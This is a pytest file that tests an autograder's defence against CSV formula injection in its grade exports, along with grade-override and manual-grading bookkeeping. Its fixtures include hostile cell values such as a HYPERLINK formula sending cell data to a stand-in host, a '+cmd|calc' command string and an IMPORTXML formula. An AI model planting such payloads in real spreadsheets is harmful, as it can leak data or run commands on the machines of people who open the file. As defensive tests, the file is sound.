"""Do the CSVs say one thing one way, and does no CSV a person opens hold a formula?"""
import csv

import pytest

from autograder.grade.output.gradebook import Recorded
from autograder.grade.output.report import NUMBER, spreadsheet_original, spreadsheet_safe, write_outputs
from autograder.grade.submission.results import SubmissionResult

A = "01_tokens_and_ids"
HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
STUDENTS = ["ada", HOSTILE, "=SUM(A1)", "+cmd|calc", "-rf", "@SUM(A1)", "\t=1+1", "'quoted", "-2"]
CSVS = ("scores.csv", "grades.csv", "problems.csv", "lms.csv", "items.csv")  # every CSV ``grade`` writes


def result(student: str) -> SubmissionResult:
    scores = [{"grade_id": gid, "points": pts, "max_points": 1.0, "status": "passed" if pts else "failed",
               "message": "", "mistake": ""}
              for gid, pts in (("test_encode", 0.0), ("test_encode_hidden", 1.0), ("test_decode", 1.0))]
    problems = [{"problem": "tampered", "detail": "=1+1 was written in the test cell", "fatal": False}]
    return SubmissionResult.from_json({"student_id": student, "assignment_id": A, "scores": scores, "code": {},
                                  "problems": problems if student != "ada" else []})


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    out = tmp_path_factory.mktemp("out")
    recorded = {("ada", A): Recorded(scores={"test_encode": 1.0}, overridden={"test_encode": 0.0},
                                     comments={"encode": "Off by one: ids start at 0."}, submitted_at="",
                                     seconds_late=0.0, late_penalty=0.0),
                ("-rf", A): Recorded(scores={}, overridden={}, comments={"decode": "=IMPORTXML(A1)"},
                                     submitted_at="", seconds_late=0.0, late_penalty=0.0)}
    write_outputs(out, [result(s) for s in STUDENTS], recorded)
    return {name: list(csv.reader((out / name).read_text(encoding="utf-8").splitlines(keepends=True)))
            for name in CSVS}


def rows(written, name: str) -> list[dict]:
    header, *body = written[name]
    return [dict(zip(header, row)) for row in body]


def test_no_cell_of_any_csv_starts_a_formula(written):
    """Does any cell of scores, grades, problems, lms or items.csv (headers too) begin with = + - @ tab or CR,
    but a plain number?"""
    for name, table in written.items():
        starts = [c for row in table for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                  and not NUMBER.fullmatch(c)]
        assert not starts, f"{name} holds cells a spreadsheet runs: {starts}"


@pytest.mark.parametrize("name", ["scores.csv", "grades.csv", "problems.csv", "lms.csv"])
def test_a_hostile_id_is_guarded_and_comes_back_whole(written, name):
    """Is each student id written with one leading apostrophe when it needs one, and does removing it give it back?"""
    ids = {row["student_id"] for row in rows(written, name)}
    assert {"'=SUM(A1)", "'" + HOSTILE, "'-rf", "'@SUM(A1)", "''quoted", "-2"} <= ids
    assert {spreadsheet_original(i) for i in ids} == set(STUDENTS) - ({"ada"} if name == "problems.csv" else set())


def test_a_comment_and_a_problem_detail_are_guarded(written):
    comments = {r["comment"] for r in rows(written, "scores.csv")}
    details = {r["detail"] for r in rows(written, "problems.csv")}
    assert "'=IMPORTXML(A1)" in comments and details == {"'=1+1 was written in the test cell"}


def test_numbers_and_plain_text_are_left_as_they_are():
    assert spreadsheet_safe("-1.5") == "-1.5" and spreadsheet_safe("ada") == "ada"
    assert spreadsheet_safe("-1e-05") == "-1e-05" and spreadsheet_safe("+3") == "+3"
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)" and spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe("-1+1") == "'-1+1" and spreadsheet_safe("-inf") == "'-inf"


@pytest.mark.parametrize("cell", ["=SUM(A1)", "'=SUM(A1)", "''x", "'", "ada", "-1.5", "", "\r=1", "it's"])
def test_removing_one_leading_apostrophe_gives_any_cell_back(cell):
    """The documented join rule: a cell that already began with an apostrophe gets one more, so it is exact."""
    assert spreadsheet_original(spreadsheet_safe(cell)) == cell


def test_overridden_reads_yes_in_both_files(written):
    grade = next(r for r in rows(written, "grades.csv") if r["student_id"] == "ada")
    encode = next(r for r in rows(written, "scores.csv") if r["student_id"] == "ada" and r["grade_id"] == "test_encode")
    assert grade["overridden"] == encode["overridden"] == "yes"
    untouched = next(r for r in rows(written, "grades.csv") if r["student_id"] == "'-rf")
    assert untouched["overridden"] == ""


def test_an_exercise_comment_is_on_its_first_test_row_only(written):
    found = {r["grade_id"]: r["comment"] for r in rows(written, "scores.csv") if r["student_id"] == "ada"}
    assert found == {"test_encode": "Off by one: ids start at 0.", "test_encode_hidden": "", "test_decode": ""}


def test_a_written_answer_waits_for_a_person_in_both_files_until_one_scores_it(tmp_path):
    """A written answer (status manual) has no automatic score in scores.csv and makes grades.csv's
    needs_manual_grade "yes"; once the gradebook holds a person's score and comment, both files carry them."""
    nb02, why = "02_shapes_and_matmul", "why_split_heads"

    def answered(student: str) -> SubmissionResult:
        return SubmissionResult.from_json({"student_id": student, "assignment_id": nb02, "scores": [
            {"grade_id": "test_split_heads", "points": 1.0, "max_points": 1.0, "status": "passed"},
            {"grade_id": why, "points": 0.0, "max_points": 1.0, "status": "manual"}]})

    def csvs(recorded: dict) -> tuple[dict, dict]:
        out = tmp_path / f"out{len(recorded)}"
        write_outputs(out, [answered("ada")], recorded)
        scores = {r["grade_id"]: r for r in csv.DictReader((out / "scores.csv").open(encoding="utf-8"))}
        (grade,) = csv.DictReader((out / "grades.csv").open(encoding="utf-8"))
        return scores[why], grade

    row, grade = csvs({})
    assert (row["points"], row["max_points"], row["status"], row["auto_points"], row["overridden"]) == \
        ("0", "1", "manual", "", "")
    assert (grade["score"], grade["max_score"], grade["auto_score"], grade["needs_manual_grade"]) == ("1", "2", "1", "yes")
    person = Recorded(scores={"test_split_heads": 1.0, why: 0.5}, overridden={why: None},
                      comments={why: "The cause, not the symptom."}, submitted_at="", seconds_late=0.0, late_penalty=0.0)
    row, grade = csvs({("ada", nb02): person})
    assert (row["points"], row["status"], row["overridden"], row["comment"]) == \
        ("0.5", "manual", "yes", "The cause, not the symptom.")
    assert (grade["score"], grade["overridden"], grade["needs_manual_grade"]) == ("1.5", "yes", "")
